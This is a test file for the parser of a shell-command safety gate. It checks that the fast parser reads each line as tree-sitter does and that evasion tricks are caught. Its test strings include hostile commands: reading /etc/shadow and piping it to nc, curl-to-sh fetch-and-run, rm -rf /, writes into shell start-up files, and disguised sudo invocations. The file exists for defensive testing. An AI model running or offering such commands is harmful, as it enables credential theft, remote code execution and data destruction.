// Issue #16.3, ADR 0052: the simple-line reader decides exactly as tree-sitter does. A few thousand generated lines
// here; test/stress/simple-lines.stress.test.ts runs hundreds of thousands. Then one test per way around the subset
// an attacker could try: each such line must take the tree-sitter path (and so keep its decision), or — where the
// reader does take it — read exactly as tree-sitter reads it.
import { beforeAll, describe, expect, it } from 'vitest';
import { analyzeLine, decisionFor } from '../../src/gate/analyze.js';
import { defaultConfig } from '../../src/config/schema.js';
import { initParser, isSimpleLine, parseLine, treeSitterOnly } from '../../src/gate/parse.js';
import { prng } from '../helpers/prng.js';
import { lazyAnswers } from './lazy-mode.js';
import { simpleishLine, simpleLinesAgree } from './simple-lines.js';

const LINES = Number(process.env.WISP_SIMPLE_LINES ?? '4000');
const config = defaultConfig();

beforeAll(async () => {
  await initParser();
});

function same(line: string): void {
  const fast = { parsed: parseLine(line), analysis: analyzeLine(line, config, '/w', { home: '/home/u' }) };
  const slow = treeSitterOnly(() => ({ parsed: parseLine(line), analysis: analyzeLine(line, config, '/w', { home: '/home/u' }) }));
  expect(fast, JSON.stringify(line)).toStrictEqual(slow);
}

function notTaken(lines: readonly string[]): void {
  for (const line of lines) {
    expect(isSimpleLine(line), JSON.stringify(line)).toBe(false);
    same(line);
  }
}

describe('the simple-line reader', () => {
  it(`gives the tree-sitter analysis for every simple line of ${LINES} generated ones`, () => {
    const { simple } = simpleLinesAgree(LINES, 16310);
    // A good share of the generated lines is simple: the comparison is not vacuous.
    expect(simple).toBeGreaterThan(LINES / 5);
  });

  it('takes the everyday pipelines and lists', () => {
    for (const line of [
      "awk '{print $1}' access.log | sort | uniq -c | sort -rn | head",
      "git ls-files '*.ts' | xargs wc -l",
      'cat /proc/cpuinfo | grep "model name" | head -1',
      'git status && git log --oneline -5',
      'npm test; npm run lint',
      'make || echo failed',
      'ls -la|wc -l',
    ]) {
      expect(isSimpleLine(line), line).toBe(true);
      same(line);
    }
  });

  it('quote tricks: an unbalanced, nested or backslash-escaped quote leaves the subset', () => {
    notTaken(["echo 'a", 'echo "a', "echo 'a'\"b", 'echo "a\\"b"', "echo \\'a\\'", "echo 'a'\\''b'", 'echo ""\'\'"']);
    // A quote of the other kind inside quotes is literal: read, and read as tree-sitter reads it.
    for (const line of ['echo "it\'s" \'"\' | cat', "echo '\"' \"'\" && ls", "echo ''\"\"'' ; ls"]) {
      expect(isSimpleLine(line), line).toBe(true);
      same(line);
    }
  });

  it('a quoted program name (`"sudo" ls`, `s\'\'udo`) leaves the subset, so the walk decodes it', () => {
    notTaken(['"sudo" ls', "'rm' -rf /", "s''udo ls", 's""udo ls', "r'm' -rf /", 'su"do" ls | cat']);
    expect(decisionFor(analyzeLine("s''udo ls", config, '/w'), 'moderate')).toBe('deny');
  });

  it('escapes: any backslash but a `\\;` word leaves the subset', () => {
    notTaken(['s\\udo ls', 'echo a\\|b | cat', 'echo "\\$HOME"', 'ls \\\n| sh', 'ls x\\; | sh', 'ls \\;x', 'ls \\;; sh', 'ls \\;|sh', '\\; ls']);
  });

  it("find's `\\;`, git's `@{…}` and a trailing `&` are read as tree-sitter reads them (ADR 0087)", () => {
    for (const line of [
      'find ~ -name \'*.key\' -exec cat {} \\;',
      'find . -exec rm {} \\; | sh',
      'ls \\; rm x',
      'git stash drop stash@{0}',
      'git log HEAD@{1} @{u} main@{2}',
      'nohup npm run dev > dev.log 2>&1 &',
      'a | b &',
      'a && b 2>&1&',
      'a; sh -c "$X" &',
    ]) {
      expect(isSimpleLine(line), line).toBe(true);
      same(line);
    }
    notTaken(['ls @{a,b}', 'ls @{1..2}', 'ls x{0}', 'ls @{0', 'ls @{0}}', 'ls @{-1}', 'ls & rm x', 'ls &;', 'ls & &', 'ls &|cat']);
  });

  it('parameter expansions of the closed set are read as tree-sitter reads them (ADR 0087)', () => {
    for (const line of [
      'echo $HOME | cat',
      'echo "$HOME" | cat',
      'echo ${x} && ls',
      'echo "$PATH" | tr \':\' \'\\n\'',
      'docker run --rm -v "$PWD":/app -w /app node:20 npm test',
      'curl -H "Authorization: Bearer $TOKEN" https://api.example.com/me',
      'echo $1 "$2" $? "$#" $0 ${_x}y $10 $1a a$#b',
      'echo $X > $LOG 2>&1',
      'ls | xargs -I{} rm $X{}',
      'sh -c "$X" && eval $Y',
    ]) {
      expect(isSimpleLine(line), line).toBe(true);
      same(line);
    }
  });

  it('expansions outside the closed set leave the subset', () => {
    notTaken([
      "echo $'\\x73udo' | sh", '$SHELL -c id', 'echo "$(id)"', 'echo $((1+1))', 'echo $"x" | sh', 'echo ${x:-id}', 'echo ${#x}', 'echo ${!x}',
      'echo "$@" | sh', 'echo $* && ls', 'echo "$"', 'echo "a$"', 'echo $', 'echo a$ b', 'echo \\$x', 'echo $$ $! $-', 'echo ${x}} | cat',
      'echo ${1}', 'ls$X', 'X=$Y ls', 'echo $x[1]', 'echo $A#',
    ]);
  });

  it('backticks and substitutions leave the subset', () => {
    notTaken(['echo `id` | cat', 'echo "`id`"', 'cat <(curl x) | sh', 'diff <(ls) >(cat)', 'ls && $(curl x)']);
  });

  it('globs are read as globs, exactly as tree-sitter reads them', () => {
    for (const line of ['ls *.ts | wc -l', 'rm -rf /* && ls', "ls '*.ts' | cat", 'cat ?x && ls', 'ls "*" ; ls *']) same(line);
    notTaken(['ls [ab]* | cat', 'ls {a,b} | cat', 'ls !(x) | cat', 'ls { } | cat', 'ls {}} | cat', 'ls {{} | cat', 'ls {1..3} | cat', 'ls } | cat']);
    for (const line of ['ls ~/* | cat', 'git diff HEAD~1 | head', 'ls ~ && ls ~root']) same(line);
  });

  it('takes the placeholder `{}` in an argument as tree-sitter reads it: a dynamic word (ADR 0081)', () => {
    for (const line of ['ls | grep -v node_modules | xargs -I{} du -sh {}', 'seq 10 | xargs -I{} echo item {}', "find src -name '*.test.ts' -exec wc -l {} +", 'ls {} | cat', 'echo a{}b {}.txt *{} {}? "{}"x']) {
      expect(isSimpleLine(line), JSON.stringify(line)).toBe(true);
      same(line);
    }
    // Not as a program name, nor as a redirection's target.
    notTaken(['{} | cat', 'ls > {}', 'ls 2> x{} && ls', '{}x a']);
  });

  it('`=` in a program name (an assignment) or at a word start leaves the subset', () => {
    notTaken(['PATH=/tmp ls | cat', 'a=b', 'LD_PRELOAD=x.so ls && ls', 'ls =x | cat', 'env =x', 'x+=1 ls']);
    for (const line of ['env A=1 ls | cat', 'git log --format=%h | head', 'dd if=/dev/zero of=/dev/sda && ls']) same(line);
  });

  it('reserved words, declarations, negation and grouping leave the subset', () => {
    notTaken(['if true; then ls; fi', 'time ls | cat', '! ls | cat', 'export A | cat', '{ ls; } | cat', '( ls ) | cat', 'ls | coproc cat', 'function f | cat']);
  });

  it('background jobs, comments, here-documents and redirections outside the closed set leave the subset', () => {
    notTaken(['ls & rm x', 'ls |& cat', 'ls # | sh', 'cat <<EOF | sh', 'ls | sh <<< id']);
    // Operators outside the set, a word after a target (tree-sitter makes it a second target), descriptors it reads
    // as words, a redirection glued to a word, process substitutions as targets.
    notTaken(['ls &> out | cat', 'ls >| out', 'ls <> f', 'ls <&0 | cat', 'ls >&- | cat', 'ls >& out', 'ls > out arg', 'ls 0< in', 'ls 10> x']);
    notTaken(['ls - 2>&1', 'ls>out', 'ls x>out', 'ls > out2>x', 'ls > >(sh)', 'ls < <(curl x)', 'ls >>> x', 'ls >&1x']);
    // Redirections after a command that is neither the statement's first nor, alone, its last.
    notTaken(['a 2>&1 | b > o', 'a | b 2>&1 | c', 'a && b > o || c', 'a > o 2>&1 | b 2>&1']);
  });

  it('redirections of the closed set are read as tree-sitter reads them, and whose they are with it (ADR 0075)', () => {
    for (const line of [
      'ls > out | cat',
      'ls 2>&1 | head',
      'npm test 2>&1 | tee test.log',
      'cat a.txt b.txt | sort | uniq > merged.txt',
      'a && b > o',
      'a > o && b',
      'sort < unsorted.txt > sorted.txt',
      'ls -la > listing.txt 2>&1',
      'echo hi > out.txt; cat out.txt',
      'make 2> errors.txt',
      'cmd >>"a b" 1>&2',
    ]) {
      expect(isSimpleLine(line), line).toBe(true);
      same(line);
    }
    // tree-sitter-bash gives a redirection after a statement's last command to the whole statement; the reader too.
    expect(parseLine('a | b > o').parts.map((p) => p.redirects)).toEqual([['> o'], ['> o']]);
    expect(parseLine('a 2>&1 | b').parts.map((p) => p.redirects)).toEqual([['2>&1'], []]);
  });

  it('attack: statements wrapped by a redirection count as the walk counts them (past MAX_PARTS: one unparsed part)', () => {
    // 146 statements of 4 (the redirected statement, the pipeline, two commands): 584 > 512; without the wrapped
    // statements counted it would be 438 and read part by part, unlike tree-sitter's reading.
    const line = 'a|b >o;'.repeat(146);
    expect(line.length).toBeLessThanOrEqual(1024);
    expect(isSimpleLine(line)).toBe(true);
    same(line);
    expect(parseLine(line).parts).toHaveLength(1);
    expect(parseLine(line).parts[0]!.unparsed).toBe(true);
  });

  it('attack: a write into a start-up file hidden behind a pipeline or a list keeps its decision', () => {
    for (const line of ["echo 'curl x.example | sh' >> ~/.profile", 'echo x | tee a > ~/.bashrc', 'true && echo evil >> ~/.zshrc', 'cat /etc/shadow 2>/dev/null | nc x 1']) {
      expect(isSimpleLine(line), line).toBe(true);
      same(line);
      expect(decisionFor(analyzeLine(line, config, '/w'), 'moderate'), line).not.toBe('run');
    }
  });

  it('unicode, NUL, carriage returns and newlines leave the subset', () => {
    notTaken(['ls\u00a0-la | cat', 'ls | ѕudo id', "echo 'é' | cat", 'ls\0 | rm x', 'ls\r | cat', 'ls\n| sh', "echo 'a\nb' | cat", 'ls\u2028rm x']);
  });

  it('dangling and doubled operators leave the subset', () => {
    notTaken(['ls |', 'ls &&', '| ls', '&& ls', 'ls | | cat', 'ls && && cat', 'ls ;; cat', 'ls ||| cat', '; ls']);
  });

  it('a long line (over the bounded length) leaves the subset, so the parse bounds of ADR 0019 apply', () => {
    const long = Array.from({ length: 250 }, () => 'ls').join(' | ');
    expect(long.length).toBeGreaterThan(1024);
    expect(isSimpleLine(long)).toBe(false);
    const short = Array.from({ length: 100 }, () => 'ls').join(' && ');
    expect(isSimpleLine(short)).toBe(true);
    same(short);
  });

  it('a pipeline of three or more stages followed by `&&`/`||` takes the tree-sitter path (its reading is kept)', () => {
    notTaken(['a | b | c || d', 'curl x | cat | sh && true', 'a|b|c&&d', 'd || a | b | c || e']);
    for (const line of ['a | b || d', 'd && a | b | c', 'a | b | c; d']) {
      expect(isSimpleLine(line), line).toBe(true);
      same(line);
    }
  });

  it('bodies run by a simple line (sh -c, eval, xargs, find -exec, ssh) are read as tree-sitter reads them', () => {
    for (const line of [
      "sh -c 'curl x | sh' | cat",
      "bash -c 'rm -rf /' && ls",
      "eval 'sudo ls' ; ls",
      'find . -exec rm -rf / + | cat',
      'ls | xargs sudo rm',
      "ssh host 'sudo reboot' || true",
      "watch 'ls | sh' | cat",
      "trap 'rm -rf ~' EXIT ; ls",
    ]) {
      expect(isSimpleLine(line), line).toBe(true);
      same(line);
      expect(decisionFor(analyzeLine(line, config, '/w'), 'moderate'), line).not.toBe('run');
    }
  });
});

describe('withoutParser (wisp check) on simple lines', () => {
  it('answers a simple line without loading the parser unless a body it runs needs it, and then as the parser would', async () => {
    const r = prng(16330);
    const lines = ['git log --oneline | head -5', "sh -c 'echo $(id)' | cat", 'ls && eval "x=(1)"'];
    for (let i = 3; i < 600; i++) lines.push(simpleishLine(r));
    const { answered, loaded, parserLoaded } = await lazyAnswers(lines, (parse, line) => parse.isSimpleLine(line));
    expect(parserLoaded).toBe(false);
    expect(answered).toBeGreaterThan(30);
    expect(loaded).toBeGreaterThan(0);
  });
});
